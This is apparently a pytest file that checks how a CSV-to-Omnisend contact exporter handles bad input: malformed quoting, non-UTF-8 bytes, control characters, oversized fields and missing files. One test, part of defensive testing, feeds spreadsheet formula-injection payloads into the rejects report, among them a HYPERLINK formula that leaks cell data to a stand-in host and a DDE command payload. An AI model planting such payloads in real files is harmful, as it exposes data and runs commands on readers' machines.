"""Bad input, end to end: each gives a clear error or a per-row rejection, never a crash or a 500,
and nothing reaches Omnisend that should not.

The reader's handling of each case is tested in test_segments.py; here every case goes through the
app: the API that saves an export and starts a run, the planner and uploader on the local runner,
and the sandbox, which shows what was sent.
"""

from __future__ import annotations

import json
from datetime import datetime, timedelta, timezone

import pytest

from exporter.devhost.local_runner import LocalHost
from exporter.domain.reasons import REASON_NOT_SENT_UNREADABLE
from exporter.segments import blobs
from tests.apphelpers import (
    call,
    create_connection,
    create_export,
    never_ended_with_open_counts,
    report_rows,
    start_run,
    wait_for_run,
)
from tests.conftest import TEST_API_KEY, TEST_BRAND

SEG = "Members"
FOLDER = "ci"
T = (datetime.now(timezone.utc) - timedelta(minutes=5)).strftime("%Y/%m/%d/%H%M")
COLS = ("CustomerId", "FirstName", "PrimaryEmail", "Country")
MAPPING = {"email": "PrimaryEmail", "firstName": "FirstName", "country": "Country"}


def part(n: int = 1, time: str = T, ext: str = ".csv") -> str:
    return f"{FOLDER}/{SEG}/{time}/{SEG}_{n}{ext}"


def put(container, name: str, data: bytes | str) -> None:
    container.upload_blob(name, data.encode("utf-8") if isinstance(data, str) else data, overwrite=True)


def model_json(container, columns=COLS, header: bool = False) -> None:
    """A CDM model.json describing the segment (no header row, every field quoted: the CDM defaults)."""
    put(container, f"{FOLDER}/model.json", json.dumps({
        "name": "cdp", "version": "1.0",
        "entities": [{"$type": "LocalEntity", "name": SEG,
                      "attributes": [{"name": c, "dataType": "string"} for c in columns],
                      "partitions": [{"name": f"{SEG}_1", "location": f"https://acct.blob.core.windows.net/c/{part()}",
                                      "fileFormatSettings": {"$type": "CsvFormatSettings", "columnHeaders": header}}]}],
    }))


def rows(*values: tuple, eol: str = "\r\n") -> str:
    return "".join(",".join(f'"{v}"' for v in row) + eol for row in values)


def people(start: int, count: int) -> list[tuple]:
    return [(str(i), f"Name{i}", f"person{i}@example.com", "LT") for i in range(start, start + count)]


@pytest.fixture
def conn(services, sandbox) -> str:
    return create_connection(TEST_API_KEY)["id"]


def export_of(conn: str, container, mapping=None, **extra) -> dict:
    """An export of the test segment. These tests are about single rows, often most of a small refresh:
    the rejected-share threshold is off (it is tested in test_safety.py)."""
    extra.setdefault("maxRejectedPercent", 100)
    return create_export(conn, container.container_name, FOLDER, SEG, mapping=mapping or MAPPING, **extra)


def save_export(conn: str, container, mapping=None):
    """POST /exports without asserting the answer: (status, body)."""
    status, body, _ = call("exports", "POST", "exports", {
        "name": "Members", "connectionId": conn,
        "source": {"container": container.container_name, "folder": FOLDER, "segment": SEG},
        "mapping": mapping or MAPPING, "enabled": True})
    return status, body


def run_export(export: dict) -> dict:
    return wait_for_run(start_run(export["id"])["runId"], timeout=60)


def adds_up(run: dict) -> None:
    c = run["counts"]
    assert c["read"] == c["rejected"] + c["duplicates"] + c["confirmed"] + c["failed"] + c["skipped"], c


def stored(sandbox) -> dict[str, dict]:
    return {c["email"]: c for c in sandbox.contacts(TEST_BRAND)}


def nothing_sent(sandbox) -> None:
    assert sandbox.stats(TEST_BRAND)["batchesCreated"] == 0 and sandbox.contacts(TEST_BRAND) == []


def problem_of(status: int, body: dict, expected_status: int) -> str:
    """The problem's whole text (detail and every error message), after checking its status."""
    assert status == expected_status, body
    assert body["status"] == expected_status and body["title"]
    errors = [f"{e['field']} {e['code']} {e['message']}" for e in body.get("errors", [])]
    return " ".join([body.get("detail", ""), *errors])


# --------------------------------------------------------------------------- malformed CSV


def test_an_unbalanced_quote_mid_file_fails_the_run_naming_file_and_line(services, workers, sandbox, conn,
                                                                         segment_container, run_views):
    header = ",".join(COLS) + "\r\n"
    put(segment_container, part(1), header + rows(*people(1, 50)))
    broken = rows(*people(100, 10)) + '"110","Ann,"private110@example.com","LT"\r\n' + rows(*people(111, 10))
    put(segment_container, part(2), header + broken)
    run = run_export(export_of(conn, segment_container))
    assert run["status"] == "failed", run
    assert part(2) in run["error"] and "malformed CSV at line" in run["error"] and "Nothing was sent" in run["error"]
    assert "private110" not in run["error"]
    adds_up(run)
    never_ended_with_open_counts(run_views)
    nothing_sent(sandbox)


def test_contacts_read_before_an_unreadable_line_are_each_reported_as_not_sent(services, workers, sandbox, conn,
                                                                                segment_container):
    header = ",".join(COLS) + "\r\n"
    put(segment_container, part(1), header + rows(*people(1, 150)))  # more than one batch
    broken = rows(*people(200, 10)) + '"210","Ann,"private210@example.com","LT"\r\n' + rows(*people(211, 10))
    put(segment_container, part(2), header + broken + rows(("bad", "Bad", "not-an-email", "LT")))
    run = run_export(export_of(conn, segment_container))
    c = run["counts"]
    assert run["status"] == "failed" and run["countsFinal"] is True and "Nothing was sent" in run["error"]
    adds_up(run)
    reason = REASON_NOT_SENT_UNREADABLE
    assert c["failedByReason"] == {reason: c["failed"]} and c["failed"] == c["queued"] > 100
    not_sent = [r for r in report_rows(run["runId"]) if r["reason"] == reason]
    assert len(not_sent) == c["failed"]
    assert all(r["stage"] == "planning" and part(2) in r["detail"] for r in not_sent)
    # every contact read before the broken line, each with its own file and row
    expected = {(part(1), str(i), f"person{i}@example.com") for i in range(1, 151)}
    expected |= {(part(2), str(i - 199), f"person{i}@example.com") for i in range(200, 210)}
    assert {(r["partition"], r["row"], r["email"]) for r in not_sent} == expected
    nothing_sent(sandbox)


# --------------------------------------------------------------------------- the email column


def test_a_missing_email_column_is_refused_when_the_export_is_saved(services, sandbox, conn, segment_container):
    model_json(segment_container)
    put(segment_container, part(), rows(*people(1, 3)))
    text = problem_of(*save_export(conn, segment_container, {**MAPPING, "email": "Email"}), 400)
    assert "mapping.email unknown_column" in text and "'Email'" in text and "PrimaryEmail" in text
    assert call("exports", "GET", "exports")[1]["exports"] == []  # nothing was saved


def test_a_refresh_without_the_email_column_fails_the_run_before_sending(services, workers, sandbox, conn,
                                                                         segment_container, run_views):
    export = export_of(conn, segment_container)  # saved before the first refresh: nothing to check yet
    assert export["notices"]
    renamed = ("CustomerId", "FirstName", "Email", "Country")
    model_json(segment_container, renamed)
    put(segment_container, part(), rows(*people(1, 20)))
    run = run_export(export)
    assert run["status"] == "failed" and "email -> 'PrimaryEmail'" in run["error"] and "Email" in run["error"]
    adds_up(run)
    never_ended_with_open_counts(run_views)
    nothing_sent(sandbox)


# --------------------------------------------------------------------------- encodings and line ends


def test_bytes_that_are_not_utf8_reject_their_row_only(services, workers, sandbox, conn, segment_container):
    model_json(segment_container)
    data = (rows(*people(1, 5)).encode()
            + b'"6","M\xfcller","muller6@example.com","DE"\r\n'  # latin-1 in a name
            + b'"7","Anna","anna\xe97@example.com","DE"\r\n'  # latin-1 in the email
            + rows(*people(8, 5)).encode())
    put(segment_container, part(), data)
    run = run_export(export_of(conn, segment_container))
    c = run["counts"]
    assert run["status"] == "partiallySucceeded" and c["read"] == 12 and c["confirmed"] == 10
    assert c["rejectedByReason"] == {"not valid UTF-8": 2}
    adds_up(run)
    bad = [r for r in report_rows(run["runId"]) if r["reason"] == "not valid UTF-8"]
    assert [(r["partition"], r["row"]) for r in bad] == [(part(), "6"), (part(), "7")]
    assert set(stored(sandbox)) == {f"person{i}@example.com" for i in (*range(1, 6), *range(8, 13))}


def test_report_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(services, workers, sandbox, conn,
                                                                             segment_container):
    """Found as an attacker would: the rejects CSV wrote cells like =HYPERLINK(...) raw, and a
    spreadsheet opening the report runs them. Such cells start with an apostrophe (OWASP's rule)."""
    model_json(segment_container)
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
    quoted = [value.replace('"', '""') for value in hostile]  # as CSV writes a quote inside a quoted field
    data = rows(*people(1, 3)) + rows(*((str(10 + i), "Eve", value, "LT") for i, value in enumerate(quoted)))
    put(segment_container, part(), data)
    run = run_export(export_of(conn, segment_container))
    adds_up(run)
    rejected = [r for r in report_rows(run["runId"]) if r["stage"] == "planning"]
    assert sorted(r["email"] for r in rejected) == sorted("'" + v for v in hostile)
    assert all(r["email"][0] == "'" for r in rejected)


def test_control_characters_in_mapped_values_reject_their_row(services, workers, sandbox, conn, segment_container):
    """C0 control characters (NUL, an escape code) in a mapped value are never sent; a tab or a line
    break inside a value is not a control character here (addresses span lines)."""
    model_json(segment_container)
    hostile = [("10", "Nul\x00Name", "nul@example.com", "LT"), ("11", "Red\x1b[31m", "esc@example.com", "LT"),
               ("12", "Bell", "bell@example.com", "L\x07T"),
               ("1\x013", "x", "unmapped@example.com", "LT")]  # a control character in a column not mapped: sent
    fine = [("14", "Tab\tName", "tab@example.com", "LT"), ("15", "Two\nLines", "lines@example.com", "LT")]
    put(segment_container, part(), rows(*people(1, 3), *hostile, *fine))
    run = run_export(export_of(conn, segment_container))
    c = run["counts"]
    assert c["read"] == 9 and c["rejectedByReason"] == {"control character": 3} and c["confirmed"] == 6, c
    adds_up(run)
    details = {r["email"]: r["detail"] for r in report_rows(run["runId"])}
    assert details == {"nul@example.com": "firstName holds the control character U+0000",
                       "esc@example.com": "firstName holds the control character U+001B",
                       "bell@example.com": "country holds the control character U+0007"}
    contacts = stored(sandbox)
    assert not {"nul@example.com", "esc@example.com", "bell@example.com"} & set(contacts)
    assert contacts["tab@example.com"]["firstName"] == "Tab\tName" and contacts["lines@example.com"]["firstName"] == "Two\nLines"


def test_a_short_row_of_bytes_that_are_not_utf8_rejects_only_that_row(services, workers, sandbox, conn,
                                                                      segment_container):
    """Found as a user would: a short row holding a Latin-1 email failed the whole run ("Planning failed
    unexpectedly (UnicodeEncodeError)", read 0): its report line could not be written as UTF-8."""
    model_json(segment_container)
    data = rows(*people(1, 4)).encode() + b'"5","anna\xe95@example.com","DE"\r\n' + rows(*people(6, 4)).encode()
    put(segment_container, part(), data)
    run = run_export(export_of(conn, segment_container))
    c = run["counts"]
    assert run["status"] == "partiallySucceeded" and c["read"] == 9 and c["confirmed"] == 8
    assert c["rejectedByReason"] == {"not valid UTF-8": 1}
    adds_up(run)
    (bad,) = [r for r in report_rows(run["runId"]) if r["stage"] == "planning"]
    assert (bad["row"], bad["reason"]) == ("5", "not valid UTF-8")


def test_undecodable_bytes_in_a_report_cell_are_shown_escaped():
    from exporter.state.reports import safe_cell

    assert safe_cell("anna\udce9@example.com") == "anna\\xe9@example.com"  # the byte 0xE9, as text
    assert safe_cell("=cmd\udcff") == "'=cmd\\xff"


@pytest.mark.parametrize("codec,named", [("utf-16", "UTF-16 LE, byte order mark FF FE"),
                                         ("utf-16-be", "UTF-16 BE without a byte order mark"),
                                         ("utf-32", "UTF-32 LE, byte order mark FF FE 00 00")])
def test_a_partition_in_utf16_or_utf32_fails_the_run_naming_its_encoding(services, workers, sandbox, conn,
                                                                           segment_container, codec, named):
    """Found as an operator would: a UTF-16 file described by model.json decodes as "UTF-8" full of
    NULs, and every row was rejected as an invalid email without a word about the encoding."""
    model_json(segment_container)
    put(segment_container, part(), rows(*people(1, 5)).encode(codec))
    run = run_export(export_of(conn, segment_container))
    assert run["status"] == "failed" and part() in run["error"], run
    assert f"is not UTF-8: it is encoded as {named}" in run["error"] and "Export the segment as UTF-8" in run["error"]
    adds_up(run)
    nothing_sent(sandbox)


def test_a_header_row_in_utf16_is_refused_when_saved_naming_its_encoding(services, sandbox, conn, segment_container):
    put(segment_container, part(), ("CustomerId,FirstName,PrimaryEmail,Country\r\n" + rows(*people(1, 2))).encode("utf-16"))
    text = problem_of(*save_export(conn, segment_container), 400)
    assert "UTF-16 LE" in text and part() in text


def test_a_header_row_that_is_not_utf8_is_refused_when_saved(services, sandbox, conn, segment_container):
    put(segment_container, part(), b"CustomerId,F\xfcrstName,PrimaryEmail,Country\r\n1,A,a@example.com,LT\r\n")
    text = problem_of(*save_export(conn, segment_container), 400)
    assert "not valid UTF-8" in text and part() in text


def test_a_utf8_bom_is_not_part_of_the_first_column(services, workers, sandbox, conn, segment_container):
    # a header CSV whose first column is the email: the BOM must not end up in the column's name...
    put(segment_container, part(1), "\ufeffPrimaryEmail,FirstName\r\n" + "".join(
        f"person{i}@example.com,Name{i}\r\n" for i in range(1, 4)))
    export = export_of(conn, segment_container, {"email": "PrimaryEmail", "firstName": "FirstName"})
    assert export["notices"] == []
    run = run_export(export)
    assert run["status"] == "succeeded" and run["counts"]["confirmed"] == 3
    assert set(stored(sandbox)) == {"person1@example.com", "person2@example.com", "person3@example.com"}


def test_a_utf8_bom_is_not_part_of_the_first_value(services, workers, sandbox, conn, segment_container):
    # ...nor, without a header row, in the first row's first value
    model_json(segment_container, ("PrimaryEmail", "FirstName"))
    put(segment_container, part(), "\ufeff" + rows(("first@example.com", "First"), ("second@example.com", "Second")))
    run = run_export(export_of(conn, segment_container, {"email": "PrimaryEmail", "firstName": "FirstName"}))
    assert run["status"] == "succeeded" and run["counts"]["confirmed"] == 2
    assert stored(sandbox)["first@example.com"]["firstName"] == "First"


def test_crlf_lf_and_line_breaks_inside_values(services, workers, sandbox, conn, segment_container):
    model_json(segment_container, (*COLS, "Street"))
    put(segment_container, part(1), rows(("1", "Lf", "lf@example.com", "LT", "Main St 1"), eol="\n"))
    put(segment_container, part(2), rows(("2", "Crlf", "crlf@example.com", "DE", "Main St 2"),
                                         ("3", "Multi", "multi@example.com", "FR", "Main St 3\r\nBuilding B")))
    put(segment_container, part(3), rows(("4", "Cr", "cr@example.com", "PL", "Main St 4"), eol="\r"))
    run = run_export(export_of(conn, segment_container, {**MAPPING, "address": "Street"}))
    assert run["status"] == "succeeded" and run["counts"]["confirmed"] == 4
    got = {email: (c["firstName"], c["countryCode"], c["address"]) for email, c in stored(sandbox).items()}
    assert got == {
        "lf@example.com": ("Lf", "LT", "Main St 1"),
        "crlf@example.com": ("Crlf", "DE", "Main St 2"),
        "multi@example.com": ("Multi", "FR", "Main St 3\r\nBuilding B"),
        "cr@example.com": ("Cr", "PL", "Main St 4"),
    }


# --------------------------------------------------------------------------- sizes


def test_a_1mb_field(services, workers, sandbox, conn, segment_container, monkeypatch):
    monkeypatch.setattr(blobs, "DOWNLOAD_CHUNK_BYTES", 256 * 1024)  # the field spans several reads
    model_json(segment_container)
    huge = "x" * 1_000_000
    put(segment_container, part(), rows(*people(1, 3), ("4", huge, "huge-name4@example.com", "LT"),  # mapped
                                        (huge, "Five", "huge-id5@example.com", "LT"), *people(6, 3)))  # unmapped
    run = run_export(export_of(conn, segment_container))
    c = run["counts"]
    assert run["status"] == "partiallySucceeded" and c["read"] == 8 and c["confirmed"] == 7
    assert c["rejectedByReason"] == {"value too long": 1}
    adds_up(run)
    (row,) = report_rows(run["runId"])
    assert (row["row"], row["email"], row["reason"]) == ("4", "huge-name4@example.com", "value too long")
    assert "firstName" in row["detail"] and len(row["detail"]) < 200
    contacts = stored(sandbox)
    assert "huge-name4@example.com" not in contacts and contacts["huge-id5@example.com"]["firstName"] == "Five"
    assert contacts["person6@example.com"]["firstName"] == "Name6"


# --------------------------------------------------------------------------- empty and missing things


def test_an_empty_partition_next_to_a_full_one(services, workers, sandbox, conn, segment_container):
    model_json(segment_container)
    put(segment_container, part(1), b"")
    put(segment_container, part(2), rows(*people(1, 5)))
    run = run_export(export_of(conn, segment_container))
    assert run["status"] == "succeeded" and run["counts"]["read"] == 5 and run["counts"]["confirmed"] == 5


def test_an_empty_file_is_an_empty_segment(services, workers, sandbox, conn, segment_container):
    model_json(segment_container)
    put(segment_container, part(), b"")
    run = run_export(export_of(conn, segment_container))
    c = run["counts"]
    assert run["status"] == "succeeded" and c["read"] == 0 and c["batches"] == 0
    assert run["error"].startswith(f"The refresh {FOLDER}/{SEG}/{T}/ has no rows: the segment is empty")
    assert "nothing was sent." in run["error"] and "lose the tag" not in run["error"]
    adds_up(run)
    nothing_sent(sandbox)


def test_an_empty_refresh_after_members_untags_them_once_confirmed_and_says_so(services, workers, sandbox, conn,
                                                                               segment_container):
    model_json(segment_container)
    earlier = (datetime.now(timezone.utc) - timedelta(minutes=15)).strftime("%Y/%m/%d/%H%M")
    put(segment_container, part(time=earlier), rows(*people(1, 5)))
    export = export_of(conn, segment_container)
    first = run_export(export)
    assert first["status"] == "succeeded" and first["counts"]["confirmed"] == 5 and first["error"] is None
    assert all(SEG in contact["tags"] for contact in stored(sandbox).values())
    put(segment_container, part(), b"")  # the next refresh: nobody is in the segment any more
    stopped = run_export(export)  # every member leaving is over the default removal threshold (test_safety.py)
    assert stopped["status"] == "failed" and "5 of the 5 members (100%) would leave" in stopped["error"]
    status, body, _ = call("export_runs", "POST", "", route_params={"id": export["id"]}, params={"confirm": "true"})
    assert status == 202, body
    run = wait_for_run(body["runId"], timeout=60)
    c = run["counts"]
    assert run["status"] == "succeeded" and c["read"] == 0 and c["left"] == c["untagged"] == 5
    assert "has no rows" in run["error"] and "the 5 members of the last confirmed run lose the tag" in run["error"]
    adds_up(run)
    assert all(SEG not in contact["tags"] for contact in stored(sandbox).values())


def test_an_empty_file_where_a_header_row_is_expected(services, workers, sandbox, conn, segment_container):
    put(segment_container, part(), b"")
    text = problem_of(*save_export(conn, segment_container), 400)
    assert part() in text and "empty" in text


def test_a_refresh_folder_without_partitions(services, workers, sandbox, conn, segment_container):
    model_json(segment_container)
    put(segment_container, f"{FOLDER}/{SEG}/{T}/_SUCCESS", b"")
    put(segment_container, f"{FOLDER}/{SEG}/{T}/{SEG}_1.csv.tmp", rows(*people(1, 3)))
    export = export_of(conn, segment_container)
    assert "no refresh" in export["notices"][0]
    text = problem_of(*call("export_runs", "POST", "", route_params={"id": export["id"]})[:2], 409)
    assert "no refresh" in text and SEG in text
    nothing_sent(sandbox)


def test_a_missing_container(services, sandbox, conn, segment_container, blob_service, unique):
    missing = blob_service.get_container_client(f"gone{unique}")
    text = problem_of(*save_export(conn, missing), 400)
    assert "source.container not_found" in text and missing.container_name in text

    # the container of a saved export disappears: a run cannot be started, and one already queued fails
    model_json(segment_container)
    put(segment_container, part(), rows(*people(1, 3)))
    export = export_of(conn, segment_container)
    queued = start_run(export["id"])["runId"]  # no workers yet: it waits in the queue
    segment_container.delete_container()
    try:
        text = problem_of(*call("export_runs", "POST", "", route_params={"id": export["id"]})[:2], 409)
        assert "does not exist" in text and segment_container.container_name in text
        with LocalHost(services.clients, port=0, batch_workers=2, run_workers=1, timer=False, idle_sleep=0.2):
            run = wait_for_run(queued, timeout=60)
        assert run["status"] == "failed" and segment_container.container_name in run["error"]
        assert "does not exist" in run["error"]
        adds_up(run)
        nothing_sent(sandbox)
    finally:
        segment_container.create_container()  # for the fixture's clean-up


# --------------------------------------------------------------------------- model.json


def test_a_model_json_that_does_not_parse(services, workers, sandbox, conn, segment_container, run_views):
    model_json(segment_container)
    put(segment_container, part(), rows(*people(1, 3)))
    export = export_of(conn, segment_container)
    put(segment_container, f"{FOLDER}/model.json", b'{"entities": [{"name": "Members", ')  # cut short
    text = problem_of(*save_export(conn, segment_container), 400)
    assert "source unreadable" in text and "model.json" in text
    run = run_export(export)
    assert run["status"] == "failed" and "model.json" in run["error"] and "JSON" in run["error"]
    adds_up(run)
    never_ended_with_open_counts(run_views)
    nothing_sent(sandbox)


@pytest.mark.parametrize("columns", [(*COLS, "Phone"), COLS[:3]], ids=["more-columns", "fewer-columns"])
def test_a_model_json_that_does_not_match_the_files(services, workers, sandbox, conn, segment_container, columns,
                                                    run_views):
    model_json(segment_container, columns)
    put(segment_container, part(), rows(*people(1, 30)))
    run = run_export(export_of(conn, segment_container, {"email": "PrimaryEmail", "firstName": "FirstName"}))
    assert run["status"] == "failed", run
    assert "model.json" in run["error"] and f"{len(columns)} columns" in run["error"] and "4" in run["error"]
    assert "person" not in run["error"]
    adds_up(run)
    never_ended_with_open_counts(run_views)
    nothing_sent(sandbox)
